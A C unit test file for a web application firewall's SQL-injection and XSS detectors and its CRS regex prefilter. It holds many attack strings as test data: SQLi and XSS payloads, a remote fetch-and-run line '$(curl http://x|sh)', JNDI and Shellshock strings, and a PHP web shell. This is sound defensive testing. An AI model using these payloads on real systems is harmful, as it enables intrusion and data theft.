/*
 * The native detectors behind @detectSQLi and @detectXSS: attack strings
 * of the common families must be detected, and false-positive-prone
 * prose must not; hostile bytes (NUL, invalid UTF-8, unterminated
 * quotes and comments, very long input) must not crash them.
 * Also the literal-factor analysis the @rx prefilter relies on: for every
 * CRS regex it accepts, no sample string may match the regex without
 * containing one of its factors (a violation would be a missed attack).
 */
#include "waf_test_util.h"

#include <ctype.h>
#include <glob.h>
#include <stdlib.h>
#include <strings.h>

static void test_sqli_attacks(void **s)
{
	(void)s;
	static const char *attacks[] = {
		"1 UNION SELECT username, password FROM users",
		"-1 union all select 1,2,3--",
		"1 OR 1=1",
		"' OR '1'='1",
		"admin' --",
		"1' AND '1'='1",
		"1 AND SLEEP(5)",
		"1 AND BENCHMARK(1000000,MD5(1))",
		"1; DROP TABLE users--",
		"1 ORDER BY 10--",
		"') or ('a'='a",
		"1/**/UNION/**/SELECT/**/1,2",
		"1 /*!50000UNION*/ /*!50000SELECT*/ 1",
		"1'; WAITFOR DELAY '0:0:5'--",
		"1 and extractvalue(1,concat(0x7e,version()))",
		"\" or \"\"=\"",
		"x' having 1=1--",
		"SELECT * FROM users WHERE id=1",
		"1' union select load_file('/etc/passwd')#",
		"@@version",
	};
	char fp[8];
	for (size_t i = 0; i < BW_ARRAY_LEN(attacks); i++) {
		if (!waf_sqli_detect(attacks[i], strlen(attacks[i]), fp)) {
			print_error("SQLi not detected: %s\n", attacks[i]);
			fail();
		}
		assert_true(strlen(fp) > 0);
	}
}

static void test_sqli_benign(void **s)
{
	(void)s;
	static const char *benign[] = {
		"O'Reilly Media books", "don't stop me now", "rock and roll or jazz",
		"union jack flag", "drop shipping from china", "john.doe@example.com",
		"5 + 3 = 8", "100% cotton", "salt; pepper; oil", "iphone 13 or 14",
		"sleep apnea treatment", "it's fine, don't worry", "Hello, World!",
		"1,2,3,4,5", "2024-01-01T23:59:59Z", "t-shirt -- cheap", "#summer #sale",
		"select your plan and update billing", "", "'", "\"", "--", "/*",
		"a/b/c", "smartphone (unlocked)",
	};
	char fp[8];
	for (size_t i = 0; i < BW_ARRAY_LEN(benign); i++)
		if (waf_sqli_detect(benign[i], strlen(benign[i]), fp)) {
			print_error("SQLi false positive: '%s' (%s)\n", benign[i], fp);
			fail();
		}
}

static void test_xss_attacks(void **s)
{
	(void)s;
	static const char *attacks[] = {
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
		"<svg onload=alert(1)>", "<body onload=alert('xss')>",
		"<iframe src=\"javascript:alert(1)\"></iframe>",
		"<a href=\"javascript:alert(1)\">x</a>",
		"\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
		"<a href=\"&#106;avascript:alert(1)\">x</a>",
		"<a href=\"java&#x09;script:alert(1)\">x</a>",
		"<div style=\"width:expression(alert(1))\">",
		"<ScRiPt>alert(1)</sCrIpT>", "<details open ontoggle=alert(1)>",
		"<object data=\"javascript:alert(1)\">", "<input autofocus onfocus=alert(1)>",
		"<meta http-equiv=\"refresh\" content=\"0;url=x\">",
		"<math><a xlink:href=\"javascript:alert(1)\">x",
		"<img src=\"vbscript:msgbox(1)\">", "<script", "x onload=alert(1)",
		"<iframe srcdoc=\"&lt;script&gt;\">", "<a href=data:text/html,<b>x>",
	};
	for (size_t i = 0; i < BW_ARRAY_LEN(attacks); i++)
		if (!waf_xss_detect(attacks[i], strlen(attacks[i]))) {
			print_error("XSS not detected: %s\n", attacks[i]);
			fail();
		}
}

static void test_xss_benign(void **s)
{
	(void)s;
	static const char *benign[] = {
		"<b>bold</b> text", "a<b and c>d", "a < b", "1<2", "I <3 this",
		"javascript tutorial for beginners", "He said \"hello\" online",
		"price < 100 and rating > 4", "email me at a@b.c",
		"<p class=\"x\">para</p>", "<a href=\"https://example.com/\">link</a>",
		"<img src=\"/logo.png\" alt=\"logo\">", "don't 'quote' me", "",
		"go online=now", "<", "<<>>",
	};
	for (size_t i = 0; i < BW_ARRAY_LEN(benign); i++)
		if (waf_xss_detect(benign[i], strlen(benign[i]))) {
			print_error("XSS false positive: '%s'\n", benign[i]);
			fail();
		}
}

static void test_detectors_hostile(void **s)
{
	(void)s;
	char fp[8];
	static const char *h[] = { "'\0' or 1=1", "\xff\xfe<scr\0ipt>", "/*", "'\"`",
				   "<a href=\"", "<!--[if", "@@", "0x", "1e", "\\" };
	for (size_t i = 0; i < BW_ARRAY_LEN(h); i++) {
		(void)waf_sqli_detect(h[i], strlen(h[i]) + 1, fp);
		(void)waf_xss_detect(h[i], strlen(h[i]) + 1);
	}
	size_t n = 1 << 20;
	char *big = malloc(n);
	assert_non_null(big);
	for (size_t i = 0; i < n; i++)
		big[i] = "'(<a =\"x;-- "[i % 12];
	(void)waf_sqli_detect(big, n, fp);
	(void)waf_xss_detect(big, n);
	free(big);
}

/* ---------------------------------------------------- literal factors */

static bool has_factor(const struct bw_str *f, size_t nf, const char *s,
		       size_t n)
{
	for (size_t i = 0; i < nf; i++)
		for (size_t k = 0; k + f[i].len <= n; k++)
			if (strncasecmp(s + k, f[i].p, f[i].len) == 0)
				return true;
	return false;
}

static void test_rx_factors_units(void **s)
{
	(void)s;
	struct bw_arena *a = bw_arena_new(4096, 1 << 20);
	struct bw_str *f;
	size_t n;
	/* required runs */
	assert_int_equal(waf_rx_factors("abc\\d+xyz", 9, a, &f, &n), 0);
	assert_int_equal(n, 1);
	assert_int_equal(f[0].len, 3);
	/* alternation: one factor per branch */
	assert_int_equal(waf_rx_factors("(?i)(?:union|select)\\s", 22, a, &f, &n), 0);
	assert_int_equal(n, 2);
	/* a branch without a literal: no prefilter at all */
	assert_int_equal(waf_rx_factors("abc|\\d+", 7, a, &f, &n), 0);
	assert_int_equal(n, 0);
	/* optional parts are not required */
	assert_int_equal(waf_rx_factors("ab?c", 4, a, &f, &n), 0);
	assert_int_equal(n, 1);
	assert_int_equal(f[0].len, 1);
	/* {1,3}: at least one, not exactly one */
	assert_int_equal(waf_rx_factors("ab{1,3}c", 8, a, &f, &n), 0);
	assert_true(n == 1 && f[0].len == 2);
	assert_true(has_factor(f, n, "abbbc", 5));
	/* constructs it does not understand give up */
	assert_int_equal(waf_rx_factors("(?x) a b", 8, a, &f, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(waf_rx_factors("a(?R)b", 6, a, &f, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(waf_rx_factors("(*UTF)abc", 9, a, &f, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(waf_rx_factors("(?P=n)abc", 9, a, &f, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(waf_rx_factors("ab(", 3, a, &f, &n), 0);
	assert_int_equal(n, 0);
	bw_arena_free(a);
}

/* Every CRS regex with factors: any sample it matches contains one. */
static void unsound_reject(const struct waf_rule *l, const char *x, size_t xl,
			   const char *what)
{
	print_error("rule %llu matches '%.*s' but its %s rejects it\n",
		    (unsigned long long)l->chain_start->act.id, (int)xl, x, what);
	fail();
}

static void test_rx_factors_sound_on_crs(void **s)
{
	(void)s;
	glob_t g;
	if (glob("/usr/share/modsecurity-crs/rules/*.conf", 0, NULL, &g) != 0) {
		skip();
		return;
	}
	globfree(&g);
	struct waf_ruleset *rs = load_rules(
		"Include /etc/modsecurity/crs/crs-setup.conf\n"
		"Include /usr/share/modsecurity-crs/rules/*.conf\n");
	static const char *samples[] = {
		"1 UNION SELECT password FROM users", "<script>alert(1)</script>",
		"../../etc/passwd", "; cat /etc/passwd", "() { :; }; /bin/bash",
		"<?php system($_GET['c']); ?>", "${jndi:ldap://x/a}",
		"java.lang.Runtime.getRuntime().exec(\"id\")", "' or '1'='1",
		"javascript:alert(1)", "$(curl http://x|sh)", "/.git/config",
		"%c0%af..%c0%af", "SELECT pg_sleep(5)", "document.cookie",
		"eval(base64_decode('x'))", "php://filter/resource=x",
		"__proto__[a]=1", "require('child_process')", "|id", "`whoami`",
		"<img src=x onerror=alert(1)>", "1;drop table x", "a=1&b=2",
		"Mozilla/5.0 (Nikto/2.1.6)", "sqlmap/1.7", "O:8:\"stdClass\":1:{}",
		"@@version", "waitfor delay '0:0:5'", "having 1=1", "0x41424344",
	};
	size_t checked = 0, with_factors = 0;
	for (int ph = 1; ph <= 5; ph++)
		for (size_t i = 0; i < rs->phase[ph].n; i++)
			for (const struct waf_rule *l = rs->phase[ph].rules[i];
			     l && l->kind != WAF_RULE_MARKER; l = l->chain_next) {
				if (l->op.id != WAF_OP_RX || !l->op.re)
					continue;
				checked++;
				struct bw_str *f;
				size_t nf;
				assert_int_equal(waf_rx_factors(l->op.arg.p, l->op.arg.len,
								rs->arena, &f, &nf), 0);
				if (!nf)
					continue;
				with_factors++;
				pcre2_match_data *md = pcre2_match_data_create(4, NULL);
				for (size_t k = 0; k < BW_ARRAY_LEN(samples); k++) {
					const char *x = samples[k];
					int rc = pcre2_match(l->op.re, (PCRE2_SPTR)x,
							     strlen(x), 0, 0, md, NULL);
					if (rc >= 0 && !has_factor(f, nf, x, strlen(x))) {
						print_error("rule %llu matches '%s' without "
							    "a factor\n",
							    (unsigned long long)
								    l->chain_start->act.id,
							    x);
						fail();
					}
				}
				pcre2_match_data_free(md);
			}
	print_message("CRS regexes: %zu, with literal factors: %zu\n", checked,
		      with_factors);
	assert_true(with_factors * 2 > checked);
	/* the PCRE2-study reject of regexes without factors: every sample
	 * (as written, upper- and lowercased) a regex matches passes it */
	size_t studied = 0, matched = 0, byte_factored = 0;
	pcre2_match_data *md = pcre2_match_data_create(4, NULL);
	for (int ph = 1; ph <= 5; ph++)
		for (size_t i = 0; i < rs->phase[ph].n; i++)
			for (const struct waf_rule *l = rs->phase[ph].rules[i];
			     l && l->kind != WAF_RULE_MARKER; l = l->chain_next) {
				const struct waf_operator *op = &l->op;
				if (op->id != WAF_OP_RX || !op->re || op->hs)
					continue;
				if (op->rx_has_start || op->rx_req > 0 || op->rx_minlen)
					studied++;
				for (size_t k = 0; k < BW_ARRAY_LEN(samples) * 3; k++) {
					char x[128];
					size_t xl = strlen(samples[k / 3]);
					memcpy(x, samples[k / 3], xl);
					for (size_t c = 0; c < xl && k % 3; c++)
						x[c] = (char)(k % 3 == 1 ? toupper((unsigned char)x[c])
									: tolower((unsigned char)x[c]));
					int rc = pcre2_match(op->re, (PCRE2_SPTR)x, xl, 0, 0,
							     md, NULL);
					if (rc >= 0)
						matched++;
					if (rc >= 0 && !waf_rx_possible(op, bw_str_make(x, xl)))
						unsound_reject(l, x, xl, "study");
					if (rc >= 0 && op->rx_has_fbytes &&
					    !waf_rx_factors_possible(rs, op, bw_str_make(x, xl)))
						unsound_reject(l, x, xl, "byte factors");
					byte_factored += rc >= 0 && op->rx_has_fbytes;
				}
			}
	pcre2_match_data_free(md);
	print_message("CRS regexes without factors but with a PCRE2 study "
		      "filter: %zu, sample matches: %zu\n", studied, matched);
	assert_true(studied > 10);
	assert_true(matched > 10);
	/* single-byte factors (942190's '!', 941170's '@' and '-', ...) */
	print_message("sample matches of regexes with byte factors: %zu\n",
		      byte_factored);
	assert_true(byte_factored > 5);
	const struct waf_operator *op942190 = NULL;
	for (size_t i = 0; i < rs->phase[2].n; i++)
		if (rs->phase[2].rules[i]->kind != WAF_RULE_MARKER &&
		    rs->phase[2].rules[i]->act.id == 942190)
			op942190 = &rs->phase[2].rules[i]->op;
	assert_non_null(op942190);
	assert_true(op942190->rx_has_fbytes && op942190->rx_fhs);
	assert_false(waf_rx_factors_possible(rs, op942190, BW_STR("item 12")));
	assert_true(waf_rx_factors_possible(rs, op942190, BW_STR("x!")));
	assert_true(waf_rx_factors_possible(rs, op942190, BW_STR("UNION")));
	waf_ruleset_free(rs);
}

/* The one-pass rejects in front of the detectors are sound: on generated
 * inputs built from SQL and HTML fragments, whenever waf_sqli_possible /
 * waf_xss_possible say no, the full detectors say no too; and every
 * attack of the lists above passes the reject. */
/* waf_sqli_detect remembers the last verdicts per thread: repeated and
 * interleaved values (more than its slots, some longer than a slot) get
 * the full detector's verdict and fingerprint every time. */
static void test_sqli_memo(void **s)
{
	(void)s;
	static const char *const vals[] = {
		"Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
		"1' or '1'='1", "1 UNION SELECT password FROM users", "admin'--",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
		"rock and roll (live; 1969)", "1;drop table x", "(select 1)",
		"x' AND SLEEP(5)#", "@@version", "a (b; c) d", "1 or 1=1",
		"it's (not) an attack; really",
	};
	char big[600];
	memset(big, 'a', sizeof(big));
	memcpy(big + 300, "' or 1=1 --", 11);
	for (int round = 0; round < 4; round++)
		for (size_t i = 0; i <= BW_ARRAY_LEN(vals); i++) {
			const char *v = i < BW_ARRAY_LEN(vals) ? vals[i] : big;
			size_t n = i < BW_ARRAY_LEN(vals) ? strlen(v) : sizeof(big);
			char fa[8], fb[8];
			bool a = waf_sqli_detect(v, n, fa);
			bool b = waf_sqli_possible(v, n) && waf_sqli_detect_full(v, n, fb);
			if (!waf_sqli_possible(v, n))
				fb[0] = 0;
			assert_int_equal(a, b);
			assert_string_equal(fa, fb);
		}
	/* the same text at another address is the same value */
	char copy[128];
	(void)bw_snprintf(copy, sizeof(copy), "%s", vals[1]);
	char fp[8];
	assert_true(waf_sqli_detect(copy, strlen(copy), fp));
	copy[0] = '2'; /* a changed text is not taken from the memo */
	char fp2[8];
	assert_int_equal(waf_sqli_detect(copy, strlen(copy), fp2),
			 waf_sqli_detect_full(copy, strlen(copy), fp));
}

static void test_detector_fast_reject(void **s)
{
	(void)s;
	static const char *const frag[] = {
		"union", "UNION", "Union", "select", "SeLeCt", "or", "OR", "and",
		"AND", "xor", "order", "group", "by", " ", "  ", "\t", "1", "0x1f",
		"=", "<", ">", "'", "\"", "`", "(", ")", ";", ",", ".", "@", "@@version",
		"--", "#", "/*", "*/", "/*!", "/*!50000", "12", "/*!50000union*/ ", "/*!12select*/ ", "&&", "||", "a", "x.y", "or1", "1or",
		"sleep", "benchmark", "script", "onload", "onerror", "srcdoc",
		"SRCDOC", "href", "javascript:", "style", "expression(", "&#58;",
		"\xc3\xa9", "-", "+", "*", "!", "?", "%", "/", "\\", "_", "$",
		"from", "where", "limit", "having", "case", "when", "null",
	};
	unsigned seed = 777;
	char buf[128], fp[8];
	size_t rejected_sqli = 0, rejected_xss = 0;
	for (int k = 0; k < 200000; k++) {
		size_t n = 0;
		seed = seed * 1103515245u + 12345u;
		int parts = 1 + (int)((seed >> 16) % 8);
		for (int i = 0; i < parts; i++) {
			seed = seed * 1103515245u + 12345u;
			const char *f = frag[(seed >> 16) % BW_ARRAY_LEN(frag)];
			size_t l = strlen(f);
			if (n + l >= sizeof(buf))
				break;
			memcpy(buf + n, f, l);
			n += l;
		}
		if (!waf_sqli_possible(buf, n)) {
			rejected_sqli++;
			if (waf_sqli_detect_full(buf, n, fp))
				fail_msg("SQLi reject unsound on \"%.*s\"", (int)n, buf);
		}
		if (!waf_xss_possible(buf, n)) {
			rejected_xss++;
			if (waf_xss_detect_full(buf, n))
				fail_msg("XSS reject unsound on \"%.*s\"", (int)n, buf);
		}
	}
	assert_true(rejected_sqli > 10000);
	assert_true(rejected_xss > 10000);
	/* typical benign values leave at once */
	assert_false(waf_sqli_possible("a plain description", 19));
	assert_false(waf_sqli_possible("json.items.array_0.id", 21));
	assert_false(waf_xss_possible("item 12", 7));
	assert_true(waf_sqli_possible("rock and roll", 13));
	assert_true(waf_xss_possible("x srcDoc", 8));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sqli_attacks),
		cmocka_unit_test(test_sqli_benign),
		cmocka_unit_test(test_xss_attacks),
		cmocka_unit_test(test_xss_benign),
		cmocka_unit_test(test_detectors_hostile),
		cmocka_unit_test(test_rx_factors_units),
		cmocka_unit_test(test_rx_factors_sound_on_crs),
		cmocka_unit_test(test_detector_fast_reject),
		cmocka_unit_test(test_sqli_memo),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
